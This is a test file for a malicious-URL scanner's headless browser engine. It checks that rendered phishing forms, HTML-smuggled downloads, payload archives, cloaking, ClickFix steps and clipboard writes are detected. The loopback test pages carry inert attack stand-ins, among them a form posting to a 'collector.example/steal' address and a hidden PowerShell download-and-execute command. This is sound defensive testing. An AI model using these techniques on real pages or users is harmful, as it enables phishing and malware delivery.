import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { deflateSync } from 'node:zlib';
import { createLogger } from '@lookout/telemetry';
import type { BrowserContextOptions } from 'playwright-core';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { scanResultSchema } from '../analysis/fixtures.js';
import { analyzeFetch } from '../../src/analysis/analyze.js';
import type { ScanResult } from '../../src/analysis/result.js';
import { defaultPolicy } from '@lookout/egress';
import { BrowserPool } from '../../src/capture/browser-pool.js';
import { decodeTruecolor8 } from '../../src/capture/hashes.js';
import { proxiedEgress } from '../../src/capture/egress.js';
import { scanWithBrowser, type BrowserEngineDeps } from '../../src/capture/browser-engine.js';
import { ThreatIntelIndex } from '../../src/threat-intel/threat-index.js';
import { defaultRules, signalIds } from '../analysis/fixtures.js';

/**
 * The browser engine against the real Chromium (CHROMIUM_PATH, default /usr/bin/chromium) and pages
 * served on loopback. Every captured field is checked against a page built to produce it.
 */

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';

type Route = (req: IncomingMessage, res: ServerResponse) => void;

/** A 16×16 PNG, built here so the favicon bytes are known to the test. */
function tinyPng(): Buffer {
  const crcTable = Array.from({ length: 256 }, (_, n) => {
    let c = n;
    for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    return c >>> 0;
  });
  const crc = (buf: Buffer) => {
    let c = 0xffffffff;
    for (const byte of buf) c = (crcTable[(c ^ byte) & 0xff] ?? 0) ^ (c >>> 8);
    return (c ^ 0xffffffff) >>> 0;
  };
  const chunk = (type: string, data: Buffer) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const sum = Buffer.alloc(4);
    sum.writeUInt32BE(crc(body));
    return Buffer.concat([len, body, sum]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(16, 0);
  ihdr.writeUInt32BE(16, 4);
  ihdr[8] = 8;
  ihdr[9] = 2;
  const raw = Buffer.alloc(16 * (1 + 16 * 3));
  for (let y = 0; y < 16; y += 1) for (let x = 0; x < 16; x += 1) raw[y * 49 + 1 + x * 3] = x * 16;
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', deflateSync(raw)), chunk('IEND', Buffer.alloc(0))]);
}

/**
 * Reference MurmurHash3 x86_32 written independently of the engine's (byte-wise, BigInt-free but
 * with explicit >>> 0 arithmetic), and Python's base64.encodebytes line layout.
 */
function referenceMmh3(text: string): number {
  const data = Buffer.from(text, 'ascii');
  const mul = (a: number, b: number) => ((((a & 0xffff) * b) + ((((a >>> 16) * b) & 0xffff) << 16)) >>> 0);
  const rotl = (x: number, r: number) => ((x << r) | (x >>> (32 - r))) >>> 0;
  let h = 0;
  let i = 0;
  for (; i + 4 <= data.length; i += 4) {
    let k = ((data[i] ?? 0) | ((data[i + 1] ?? 0) << 8) | ((data[i + 2] ?? 0) << 16) | ((data[i + 3] ?? 0) << 24)) >>> 0;
    k = mul(rotl(mul(k, 0xcc9e2d51), 15), 0x1b873593);
    h = (mul(rotl((h ^ k) >>> 0, 13), 5) + 0xe6546b64) >>> 0;
  }
  let k = 0;
  const rest = data.length - i;
  if (rest >= 3) k ^= (data[i + 2] ?? 0) << 16;
  if (rest >= 2) k ^= (data[i + 1] ?? 0) << 8;
  if (rest >= 1) {
    k ^= data[i] ?? 0;
    h = (h ^ mul(rotl(mul(k >>> 0, 0xcc9e2d51), 15), 0x1b873593)) >>> 0;
  }
  h = (h ^ data.length) >>> 0;
  h = mul((h ^ (h >>> 16)) >>> 0, 0x85ebca6b);
  h = mul((h ^ (h >>> 13)) >>> 0, 0xc2b2ae35);
  h = (h ^ (h >>> 16)) >>> 0;
  return h > 0x7fffffff ? h - 0x100000000 : h;
}

function encodebytes(body: Buffer): string {
  const b64 = body.toString('base64');
  let out = '';
  for (let i = 0; i < b64.length; i += 76) out += `${b64.slice(i, i + 76)}\n`;
  return out;
}

describe('scanner-worker browser engine (real Chromium)', function () {
  this.timeout(60_000);
  let server: Server;
  let base: string;
  let pool: BrowserPool;
  let deps: BrowserEngineDeps;
  const routes = new Map<string, Route>();
  const favicon = tinyPng();
  const logger = createLogger('browser-test', 'silent');

  const html = (body: string, extra: Record<string, string> = {}): Route => (_req, res) => {
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', ...extra });
    res.end(body);
  };

  before(async () => {
    routes.set('/favicon.ico', (_req, res) => {
      res.writeHead(200, { 'content-type': 'image/png' });
      res.end(favicon);
    });
    server = createServer((req, res) => {
      const route = routes.get((req.url ?? '/').split('?')[0] ?? '/');
      if (route) return route(req, res);
      res.writeHead(404, { 'content-type': 'text/plain' });
      res.end('not found');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    pool = new BrowserPool({ executablePath: CHROMIUM, recycleAfterScans: 100, maxRssMb: 4096, logger });
    await pool.start();
    const rules = await defaultRules();
    const index = new ThreatIntelIndex([]);
    // Loopback is allowed for the test pages; everything still goes through the egress proxy.
    deps = { pool, logger, egress: proxiedEgress(defaultPolicy({ allowCidrs: ['127.0.0.0/8'] })), watchdogMs: 30_000, limits: { networkIdleMs: 500 }, analyze: (response, rendered) => analyzeFetch(response, { threatIntel: index, rules }, rendered) };
  });

  after(async () => {
    await pool?.close();
    server?.closeAllConnections();
    await new Promise<void>((resolve) => server?.close(() => resolve()));
  });

  const validate = new Ajv2020({ strict: true, strictRequired: false, allowUnionTypes: true, allErrors: true }).compile(scanResultSchema);

  /** A completed rendered scan; its result must validate against the published schema. */
  async function scan(path: string, options = {}, limits: BrowserEngineDeps['limits'] = {}, budgetMs = 20_000): Promise<ScanResult> {
    const verdict = await scanWithBrowser(`${base}${path}`, options, { ...deps, limits: { ...deps.limits, ...limits } }, undefined, budgetMs);
    assert.equal(verdict.scanState, 'completed', JSON.stringify(verdict.reason));
    assert.ok(validate(verdict.result), JSON.stringify(validate.errors));
    return verdict.result as ScanResult;
  }

  it('takes page facts from the DOM after scripts, and keeps the raw document beside them', async () => {
    routes.set('/scripted', html(`<!doctype html><html><head><title>empty</title></head><body><script>
      document.title = 'Sign in to Example';
      const f = document.createElement('form'); f.action = 'https://collector.example/steal'; f.method = 'post';
      const p = document.createElement('input'); p.type = 'password'; f.appendChild(p); document.body.appendChild(f);
      console.log('kit loaded');
      document.cookie = 'session=secret-value; path=/';
    </script></body></html>`));
    const result = await scan('/scripted');
    assert.equal(result.page?.title, 'Sign in to Example', JSON.stringify({ page: result.page, rawPage: result.rawPage, incidents: result.capture?.incidents, finalUrl: result.finalUrl }));
    assert.equal(result.page?.forms.length, 1);
    assert.equal(result.page?.forms[0]?.hasPassword, true);
    assert.equal(result.rawPage?.title, 'empty');
    assert.equal(result.rawPage?.forms.length, 0);
    const capture = result.capture!;
    assert.equal(capture.engine, 'browser');
    assert.deepEqual(capture.console.find((m) => m.type === 'log'), { type: 'log', text: 'kit loaded' });
    assert.equal(capture.cookies.length, 1);
    assert.equal(capture.cookies[0]?.name, 'session');
    assert.ok(!JSON.stringify(result).includes('secret-value'), 'a cookie value reached the result');
    assert.match(capture.screenshot!.sha256, /^[0-9a-f]{64}$/);
    assert.equal(capture.screenshot!.width, 1280);
    assert.match(capture.screenshot!.phash, /^[0-9a-f]{16}$/);
    assert.ok(capture.dom!.bytes > 0);
    assert.ok(capture.har!.bytes > 0);
    const doc = capture.requests.find((r) => r.url === `${base}/scripted`);
    assert.equal(doc?.status, 200);
    assert.equal(doc?.resourceType, 'document');
    assert.equal(doc?.remoteAddress, '127.0.0.1');
    assert.equal(doc?.sha256, result.http.bodySha256);
  });

  it('records every subresource with status, type and body hash', async () => {
    const script = 'window.loaded = true;';
    routes.set('/app.js', (_req, res) => {
      res.writeHead(200, { 'content-type': 'application/javascript' });
      res.end(script);
    });
    routes.set('/with-subresources', html(`<!doctype html><title>s</title><script src="/app.js"></script><img src="/missing.png"><script>fetch('/api-missing')</script>`));
    const result = await scan('/with-subresources');
    const js = result.capture!.requests.find((r) => r.url === `${base}/app.js`);
    assert.equal(js?.status, 200);
    assert.equal(js?.resourceType, 'script');
    assert.equal(js?.mimeType, 'application/javascript');
    assert.equal(js?.bytes, script.length);
    assert.equal(js?.sha256, createHash('sha256').update(script).digest('hex'));
    assert.equal(result.capture!.requests.find((r) => r.url === `${base}/missing.png`)?.status, 404);
    assert.equal(result.capture!.requests.find((r) => r.url === `${base}/api-missing`)?.resourceType, 'fetch');
  });

  it('hashes the favicon the Shodan way (checked against an independent mmh3), taking the one the browser fetched', async () => {
    routes.set('/plain', html('<!doctype html><title>plain</title><p>hi</p>'));
    let asked = 0;
    routes.set('/favicon.ico', (_req, res) => {
      asked += 1;
      res.writeHead(200, { 'content-type': 'image/x-icon' });
      res.end(favicon);
    });
    const result = await scan('/plain');
    const expected = referenceMmh3(encodebytes(favicon));
    assert.equal(result.capture!.favicon?.mmh3, expected);
    assert.equal(result.capture!.favicon?.sha256, createHash('sha256').update(favicon).digest('hex'));
    assert.equal(asked, 1, 'the target was asked for its favicon again');
  });

  it('fetches the favicon a page names when the browser’s own answer was not kept (a name without "icon")', async () => {
    const logo = Buffer.concat([favicon, Buffer.from('logo')]);
    routes.set('/brand/logo-main.png', (_req, res) => {
      res.writeHead(200, { 'content-type': 'image/png' });
      res.end(logo);
    });
    routes.set('/named-icon', html('<!doctype html><title>named</title><link rel="icon" href="/brand/logo-main.png"><p>hi</p>'));
    const result = await scan('/named-icon');
    assert.equal(result.capture!.favicon?.url, `${base}/brand/logo-main.png`);
    assert.equal(result.capture!.favicon?.sha256, createHash('sha256').update(logo).digest('hex'));
  });

  /** A scan whose screenshot and DOM snapshot are kept by the test (as the artifact store would keep them). */
  async function scanKeepingArtifacts(path: string): Promise<{ result: ScanResult; screenshot: Buffer; dom: string }> {
    const kept = new Map<string, Buffer>();
    const artifacts: NonNullable<BrowserEngineDeps['artifacts']> = {
      put: async (kind, body) => {
        kept.set(kind, body);
        return { sha256: createHash('sha256').update(body).digest('hex'), bytes: body.length };
      },
    };
    const verdict = await scanWithBrowser(`${base}${path}`, {}, { ...deps, artifacts }, undefined, 20_000);
    assert.equal(verdict.scanState, 'completed', JSON.stringify(verdict.reason));
    return { result: verdict.result as ScanResult, screenshot: kept.get('screenshot')!, dom: kept.get('dom')!.toString('utf8') };
  }

  /**
   * A page that turns black 100 ms after its CSS animation ends. A screenshot finishes the page's
   * animations (animations: 'disabled'), so the page changes right after any screenshot taken while it
   * settled (a 600 ms timer keeps it settling). `before` runs first in the page.
   */
  const turnsBlack = (before = '') => html(`<!doctype html><title>white</title><style>
      @keyframes fade { from { opacity: 0 } to { opacity: 1 } }
      #slow { animation: fade 60s; width: 10px; height: 10px }
    </style><body style="margin:0;background:#fff"><div id="slow"></div><script>
      ${before}
      document.getElementById('slow').addEventListener('animationend', () => setTimeout(() => {
        document.body.style.background = '#000';
        document.title = 'black';
      }, 100));
      setTimeout(() => {}, 600);
    </script></body>`);

  async function assertCapturedBlack(path: string) {
    const { result, screenshot, dom } = await scanKeepingArtifacts(path);
    assert.equal(result.page?.title, 'black');
    assert.match(dom, /background: rgb\(0, 0, 0\)|background:\s*#000/);
    const pixels = await decodeTruecolor8(screenshot);
    const rgba = [0, 0, 0, 0];
    pixels!.pixel(640, 400, rgba);
    assert.deepEqual(rgba.slice(0, 3), [0, 0, 0], 'the screenshot is not the page the DOM shows');
  }

  it('the screenshot shows the page as captured, also when the page changed after the capture first looked at it', async () => {
    routes.set('/turns-black', turnsBlack());
    await assertCapturedBlack('/turns-black');
  });

  it('a page cannot pass itself off as unchanged (replacing MutationObserver, Reflect.apply or the capture’s own probe)', async () => {
    routes.set(
      '/turns-black-spoofing',
      turnsBlack(`
        for (const name of ['__lookoutChanges', '__lookoutWatch']) {
          try { Object.defineProperty(window, name, { value: () => 0 }); } catch {}
          try { window[name] = () => 0; } catch {}
        }
        MutationObserver.prototype.observe = function () {};
        MutationObserver.prototype.takeRecords = function () { return []; };
        window.MutationObserver = function () { return { observe() {}, takeRecords() { return []; } }; };
        Reflect.apply = function () { return 0; };
      `),
    );
    await assertCapturedBlack('/turns-black-spoofing');
  });

  it('leaves the page untouched while taking its screenshot: no caret styles written into the DOM snapshot', async () => {
    routes.set('/inputs', html('<!doctype html><title>Sign in</title><form><input name="email" autofocus><input type="password" name="pw"><textarea></textarea></form>'));
    const { dom } = await scanKeepingArtifacts('/inputs');
    assert.match(dom, /<input name="email" autofocus="">/);
    assert.ok(!/style=/.test(dom), dom);
  });

  it('tells http, meta refresh and script redirects apart, and ends at the final URL after scripts', async () => {
    routes.set('/hop', (_req, res) => {
      res.writeHead(302, { location: '/meta' });
      res.end();
    });
    routes.set('/meta', html('<!doctype html><meta http-equiv="refresh" content="0;url=/js"><title>meta</title>'));
    routes.set('/js', html('<!doctype html><title>js</title><script>setTimeout(() => { location.href = "/landing"; }, 10);</script>'));
    routes.set('/landing', html('<!doctype html><title>Landed</title><p>landing</p>'));
    const result = await scan('/hop');
    assert.equal(result.finalUrl, `${base}/landing`);
    assert.equal(result.page?.title, 'Landed');
    assert.deepEqual(
      result.redirects.map((r) => [r.kind, r.url, r.location]),
      [
        ['http', `${base}/hop`, '/meta'],
        ['meta', `${base}/meta`, `${base}/js`],
        ['js', `${base}/js`, `${base}/landing`],
      ],
    );
    assert.equal(result.redirects[0]?.status, 302);
  });

  it('waits for short timers: a redirect and a fetch armed for later than the network quiet window are captured', async () => {
    routes.set('/late', html(`<!doctype html><title>late</title><script>
      setTimeout(() => fetch('/late-beacon'), 600);
      setTimeout(() => { location.href = '/late-landing'; }, 900);
      setTimeout(() => { location.href = '/never'; }, 60000); // far beyond any capture: not waited for
    </script>`));
    routes.set('/late-beacon', (_req, res) => {
      res.writeHead(204);
      res.end();
    });
    routes.set('/late-landing', html('<!doctype html><title>Late landing</title>'));
    const result = await scan('/late', {}, { networkIdleMs: 3_000 });
    assert.equal(result.finalUrl, `${base}/late-landing`);
    assert.deepEqual(result.redirects.map((r) => [r.kind, r.url]), [['js', `${base}/late`]]);
    assert.ok(result.capture!.requests.some((r) => r.url === `${base}/late-beacon` && r.status === 204), 'the late fetch is in the request list');
  });

  it('waits for a meta refresh due a second or two after load (redirect chains use them)', async () => {
    routes.set('/slow-meta', html('<!doctype html><title>wait</title><meta http-equiv="refresh" content="1.5; url=/slow-meta-landing">'));
    routes.set('/slow-meta-landing', html('<!doctype html><title>After the refresh</title>'));
    const result = await scan('/slow-meta', {}, { networkIdleMs: 3_000 });
    assert.equal(result.finalUrl, `${base}/slow-meta-landing`);
    assert.deepEqual(result.redirects.map((r) => [r.kind, r.url]), [['meta', `${base}/slow-meta`]]);
  });

  it('follows a chain of script redirects after load whose hops together take longer than the settle window', async function () {
    this.timeout(90_000);
    // Five hops after load, each answered after 700 ms: at least 3.5 s in all, against a 3 s window
    // after load. Only a window that restarts with each navigation the page asks for reaches the end.
    const slow = (body: string): Route => (req, res) => void setTimeout(() => html(body)(req, res), 700);
    const leave = (to: string, how: string) => `<script>addEventListener('load', () => setTimeout(() => { ${how}(${JSON.stringify(to)}); }, 0));</script>`;
    routes.set('/chain/0', html(`<!doctype html><title>0</title>${leave('/chain/1', 'location.assign')}`));
    for (let hop = 1; hop <= 4; hop += 1) routes.set(`/chain/${hop}`, slow(`<!doctype html><title>${hop}</title>${leave(`/chain/${hop + 1}`, hop % 2 ? 'location.replace' : 'location.assign')}`));
    routes.set('/chain/5', slow('<!doctype html><title>End of chain</title>'));
    // A budget well above the chain's own time: the deadline is not what this test is about.
    const result = await scan('/chain/0', {}, { networkIdleMs: 3_000 }, 45_000);
    assert.equal(result.finalUrl, `${base}/chain/5`);
    assert.equal(result.page?.title, 'End of chain');
    assert.deepEqual(result.redirects.map((r) => [r.kind, new URL(r.url).pathname]), [0, 1, 2, 3, 4].map((hop) => ['js', `/chain/${hop}`]));
  });

  it('a script redirect held up by a busy renderer is still waited for (an overdue timer is not a fired one)', async () => {
    // After load, a 700 ms busy loop blocks the renderer; the redirect timer (30 ms) falls due meanwhile
    // and only runs after it. The page is not settled until that timer has run.
    routes.set('/busy', html(`<!doctype html><title>busy</title><script>
      addEventListener('load', () => {
        setTimeout(() => { location.href = '/after-busy'; }, 30);
        setTimeout(() => { const end = Date.now() + 700; while (Date.now() < end) {} }, 5);
      });
    </script>`));
    routes.set('/after-busy', html('<!doctype html><title>After busy</title>'));
    const result = await scan('/busy', {}, { networkIdleMs: 4_000 });
    assert.equal(result.finalUrl, `${base}/after-busy`);
    assert.deepEqual(result.redirects.map((r) => [r.kind, new URL(r.url).pathname]), [['js', '/busy']]);
  });

  it('observes a download started by script (Blob + anchor click) without writing it', async () => {
    const payload = 'MZ fake executable';
    routes.set('/smuggle', html(`<!doctype html><title>invoice</title><body><script>
      const blob = new Blob([${JSON.stringify(payload)}], { type: 'application/x-msdownload' });
      const a = document.createElement('a'); a.href = URL.createObjectURL(blob); a.download = 'invoice.exe';
      document.body.appendChild(a); a.click();
    </script>`));
    const result = await scan('/smuggle');
    const download = result.capture!.downloads[0];
    assert.equal(download?.filename, 'invoice.exe');
    assert.match(download?.url ?? '', /^blob:/);
    assert.equal(download?.bytes, payload.length);
    assert.equal(download?.sha256, createHash('sha256').update(payload).digest('hex'));
    assert.equal(download?.magic, 'pe', 'the MZ bytes make it a Windows executable');
    assert.ok(signalIds(result).includes('executable-download'), signalIds(result).join());
  });

  it('observes downloads of a data: URL and of an <a download> link to a renderable type, with their hashes', async () => {
    const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(40, 0x90), Buffer.from([0xff, 0x00, 0x25])]);
    const notes = 'plain notes, not a download by type';
    routes.set('/notes.txt', (_req, res) => {
      res.writeHead(200, { 'content-type': 'text/plain' });
      res.end(notes);
    });
    routes.set('/data-smuggle', html(`<!doctype html><title>update</title><body><script>
      const d = document.createElement('a'); d.href = 'data:application/octet-stream;base64,${exe.toString('base64')}'; d.download = 'update.exe';
      document.body.appendChild(d); d.click();
      const p = document.createElement('a'); p.href = 'data:text/plain,100%25%20sure'; p.download = 'percent.txt';
      document.body.appendChild(p); setTimeout(() => p.click(), 50);
      const t = document.createElement('a'); t.href = '/notes.txt'; t.download = 'notes.txt';
      document.body.appendChild(t); setTimeout(() => t.click(), 100);
    </script>`));
    const result = await scan('/data-smuggle');
    const byName = (name: string) => result.capture!.downloads.find((d) => d.filename === name);
    assert.deepEqual([byName('update.exe')?.sha256, byName('update.exe')?.bytes, byName('update.exe')?.mimeType, byName('update.exe')?.magic], [createHash('sha256').update(exe).digest('hex'), exe.length, 'application/octet-stream', 'pe']);
    assert.equal(byName('percent.txt')?.sha256, createHash('sha256').update('100% sure').digest('hex'));
    assert.equal(byName('percent.txt')?.magic, null, 'plain text has no file signature');
    assert.equal(byName('notes.txt')?.sha256, createHash('sha256').update(notes).digest('hex'), JSON.stringify(result.capture!.downloads));
  });

  it('lists the files inside a ZIP the page downloads, fetched or built by script, and an archive of scripts is a payload whatever the page calls it', async () => {
    // Local file headers only (stored, empty): enough for any unzip to list the names.
    const zipOf = (names: string[]): Buffer =>
      Buffer.concat(
        names.map((name) => {
          const header = Buffer.alloc(30);
          header.write('PK\x03\x04', 0, 'latin1');
          header.writeUInt16LE(Buffer.byteLength(name), 26);
          return Buffer.concat([header, Buffer.from(name)]);
        }),
      );
    const fetched = zipOf(['lease_agreement_template.js', 'readme.txt']);
    routes.set('/files/lease.zip', (_req, res) => {
      res.writeHead(200, { 'content-type': 'application/zip', 'content-disposition': 'attachment; filename="lease_agreement_template.zip"' });
      res.end(fetched);
    });
    const built = zipOf(['Invoice_2291.pdf.lnk']);
    routes.set('/free-pdf', html(`<!doctype html><title>Lease agreement PDF free download</title><body><a id="d" href="/files/lease.zip">Download PDF (free)</a><script>
      document.getElementById('d').click();
      const blob = new Blob([Uint8Array.from(atob(${JSON.stringify(built.toString('base64'))}), (c) => c.charCodeAt(0))], { type: 'application/zip' });
      const a = document.createElement('a'); a.href = URL.createObjectURL(blob); a.download = 'Invoice_2291.zip';
      document.body.appendChild(a); setTimeout(() => a.click(), 50);
    </script>`));
    const result = await scan('/free-pdf');
    const byName = (name: string) => result.capture!.downloads.find((d) => d.filename === name);
    assert.deepEqual(byName('lease_agreement_template.zip')?.entries, ['lease_agreement_template.js', 'readme.txt'], JSON.stringify(result.capture!.downloads));
    assert.deepEqual(byName('Invoice_2291.zip')?.entries, ['Invoice_2291.pdf.lnk'], JSON.stringify(result.capture!.downloads));
    const archive = result.signals.filter((s) => s.id === 'archive-with-executable').map((s) => s.evidence).join(' | ');
    assert.match(archive, /lease_agreement_template\.js/);
    assert.match(archive, /Invoice_2291\.pdf\.lnk/);
    assert.equal(result.verdict, 'malicious');
  });

  it('waits for a download the page started by script until the browser announces it (a slow response)', async () => {
    const notes = 'slow notes';
    routes.set('/slow-notes.txt', (_req, res) => {
      // Chromium announces a download once the response headers arrive; until then the page is quiet.
      setTimeout(() => {
        res.writeHead(200, { 'content-type': 'text/plain' });
        res.end(notes);
      }, 400);
    });
    routes.set('/slow-download', html(`<!doctype html><title>update</title><body><script>
      const t = document.createElement('a'); t.href = '/slow-notes.txt'; t.download = 'slow-notes.txt';
      document.body.appendChild(t); t.click();
    </script>`));
    const result = await scan('/slow-download');
    const download = result.capture!.downloads.find((d) => d.filename === 'slow-notes.txt');
    assert.equal(download?.sha256, createHash('sha256').update(notes).digest('hex'), JSON.stringify(result.capture!.downloads));
  });

  /** Serves a service worker script at `path`; returns how many times the target served it. */
  function workerScript(path: string): () => number {
    let served = 0;
    routes.set(path, (_req, res) => {
      served += 1;
      res.writeHead(200, { 'content-type': 'text/javascript' });
      res.end("self.addEventListener('fetch', (event) => event.respondWith(new Response('from the worker')));");
    });
    return () => served;
  }

  it('service workers are off: a page registering one gets no worker, and its script is never fetched from the target', async () => {
    const scriptsServed = workerScript('/sw.js');
    // The page reports the outcome in its title: the number of workers registered for its origin.
    routes.set('/registers-worker', html(`<!doctype html><title>pending</title><script>
      navigator.serviceWorker.register('/sw.js').catch(() => null)
        .then(() => navigator.serviceWorker.getRegistrations())
        .then((list) => { document.title = 'workers:' + list.length; });
    </script>`));
    const result = await scan('/registers-worker');
    assert.equal(result.page?.title, 'workers:0');
    assert.equal(scriptsServed(), 0, 'the worker script was fetched from the target');
  });

  it('a service worker script the egress proxy refuses is in the request list with its reason, though no page event shows it', async () => {
    // The browser process fetches a worker script, not the page, so the page's request events never
    // see it; only the proxy does, which refuses every one (Service-Worker: script). To get a fetch at
    // all, this context lets the worker API through, as a page that got round Playwright's in-page
    // block (serviceWorkers: 'block' replaces register() in each page) would.
    const scriptsServed = workerScript('/sw-allowed.js');
    routes.set('/registers-anyway', html(`<!doctype html><title>pending</title><script>
      navigator.serviceWorker.register('/sw-allowed.js').then(() => 'registered', (e) => 'refused: ' + e.name).then((t) => { document.title = t; });
    </script>`));
    const unblocked: BrowserPool = Object.create(pool, { acquire: { value: (options: BrowserContextOptions) => pool.acquire({ ...options, serviceWorkers: 'allow' }) } });
    const verdict = await scanWithBrowser(`${base}/registers-anyway`, {}, { ...deps, pool: unblocked }, undefined, 20_000);
    assert.equal(verdict.scanState, 'completed', JSON.stringify(verdict.reason));
    const result = verdict.result as ScanResult;
    assert.ok(validate(result), JSON.stringify(validate.errors));
    assert.match(result.page?.title ?? '', /^refused/, 'the registration failed');
    assert.equal(scriptsServed(), 0, 'the worker script was fetched from the target');
    const refused = result.capture!.requests.filter((r) => r.url === `${base}/sw-allowed.js`);
    assert.equal(refused.length, 1, JSON.stringify(result.capture!.requests));
    assert.deepEqual([refused[0]?.blocked, refused[0]?.status, refused[0]?.bytes, refused[0]?.sha256], [{ reason: 'blocked_egress' }, null, null, null]);
  });

  it('clicks the page only when it gives a reason: a click handler alone is left alone, one beside ClickFix steps is clicked', async () => {
    const clicks: Record<string, number> = {};
    routes.set('/clicked', (req, res) => {
      const which = new URL(req.url ?? '/', base).searchParams.get('page') ?? '';
      clicks[which] = (clicks[which] ?? 0) + 1;
      res.writeHead(204);
      res.end();
    });
    // The button's label says nothing a gate says ("Continue" or "Verify" would make the page a gate,
    // which the interaction step clicks: interaction.test.ts).
    const page = (name: string, text: string) =>
      html(`<!doctype html><title>${name}</title><body><p>${text}</p><div id="b" role="button">Toggle details</div><script>
        document.getElementById('b').addEventListener('click', () => { fetch('/clicked?page=${name}'); });
      </script>`);
    routes.set('/menu', page('menu', 'An ordinary page with a button.'));
    routes.set('/steps', page('steps', 'To verify: press Windows + R, then CTRL + V, then Enter.'));
    await scan('/menu');
    await scan('/steps');
    assert.equal(clicks['menu'] ?? 0, 0, 'a page with no reason was clicked');
    assert.equal(clicks['steps'], 1, 'the page with ClickFix steps was not clicked');
  });

  it('keeps clipboard writes made before a same-origin script redirect (the recorder survives the navigation)', async () => {
    routes.set('/copy-then-go', html(`<!doctype html><title>loading</title><script>
      navigator.clipboard.writeText('powershell -w hidden -c iwr https://x.example/a | iex');
      setTimeout(() => { location.href = '/landed'; }, 50);
    </script>`));
    routes.set('/landed', html('<!doctype html><title>landed</title><p>done</p>'));
    const result = await scan('/copy-then-go');
    assert.equal(new URL(result.finalUrl).pathname, '/landed');
    const copied = result.signals.find((signal) => signal.id === 'clipboard-shell-command');
    assert.match(copied?.evidence ?? '', /^clipboard: powershell -w hidden/, JSON.stringify({ signals: result.signals.map((signal) => signal.id), incidents: result.capture?.incidents }));
  });

  it('applies the job options: user agent, language, referer, extra headers, mobile device', async () => {
    let seen: IncomingMessage['headers'] = {};
    routes.set('/echo', (req, res) => {
      seen = req.headers;
      html('<!doctype html><title>echo</title>')(req, res);
    });
    const result = await scan('/echo', { userAgent: 'LookoutTest/1', acceptLanguage: 'fr-FR', referer: 'https://mail.example/', extraHeaders: { 'x-campaign': 'c1' }, device: 'mobile' });
    assert.equal(seen['user-agent'], 'LookoutTest/1');
    assert.match(String(seen['accept-language']), /^fr-FR/);
    assert.equal(seen.referer, 'https://mail.example/');
    assert.equal(seen['x-campaign'], 'c1');
    assert.equal(result.capture!.screenshot?.width, 390);
  });

  it('does not announce automation: a page that hides from driven browsers (navigator.webdriver, HeadlessChrome, a user agent that disagrees with the client hints) shows what a visitor sees', async () => {
    let headers: IncomingMessage['headers'] = {};
    routes.set('/cloaked', (req, res) => {
      headers = req.headers;
      html(`<!doctype html><title>Bakery</title><body><script>
        const hinted = navigator.userAgentData ? navigator.userAgentData.brands.map((b) => b.version) : [];
        const named = (/Chrome\\/(\\d+)/.exec(navigator.userAgent) || [])[1];
        const bot = navigator.webdriver === true || /HeadlessChrome/.test(navigator.userAgent) || !hinted.includes(named);
        document.title = bot ? 'Bakery' : 'Track your parcel';
      </script></body>`)(req, res);
    });
    const result = await scan('/cloaked');
    assert.equal(result.page?.title, 'Track your parcel');
    // What a server-side cloaker compares: the Chrome version in the user agent and in sec-ch-ua.
    const named = /Chrome\/(\d+)/.exec(String(headers['user-agent']))?.[1];
    assert.ok(named && String(headers['sec-ch-ua']).includes(`v="${named}"`), JSON.stringify(headers));
  });

  it('presents a Windows visitor, consistently: user agent, client hints and navigator.platform agree (kits that deliver only to Windows show their payload)', async () => {
    let headers: IncomingMessage['headers'] = {};
    routes.set('/windows-only', (req, res) => {
      headers = req.headers;
      html(`<!doctype html><title>Sermons</title><body><script>
        const windows = /Windows/.test(navigator.userAgent) && navigator.platform === 'Win32' && (!navigator.userAgentData || navigator.userAgentData.platform === 'Windows');
        if (windows) document.title = 'Chrome Font Pack required';
        document.body.dataset.platform = navigator.platform;
      </script></body>`)(req, res);
    });
    const result = await scan('/windows-only');
    assert.equal(result.page?.title, 'Chrome Font Pack required');
    assert.match(String(headers['user-agent']), /Windows NT 10\.0; Win64; x64/);
    assert.equal(headers['sec-ch-ua-platform'], '"Windows"', JSON.stringify(headers));
  });

  it('fails the scan with the reason code when the target cannot be reached', async () => {
    const closed = createServer();
    await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
    const port = (closed.address() as AddressInfo).port;
    await new Promise<void>((resolve) => closed.close(() => resolve()));
    const verdict = await scanWithBrowser(`http://127.0.0.1:${port}/`, {}, deps, undefined, 10_000);
    assert.equal(verdict.scanState, 'failed');
    assert.equal(verdict.reason?.code, 'connection_refused');
  });
});
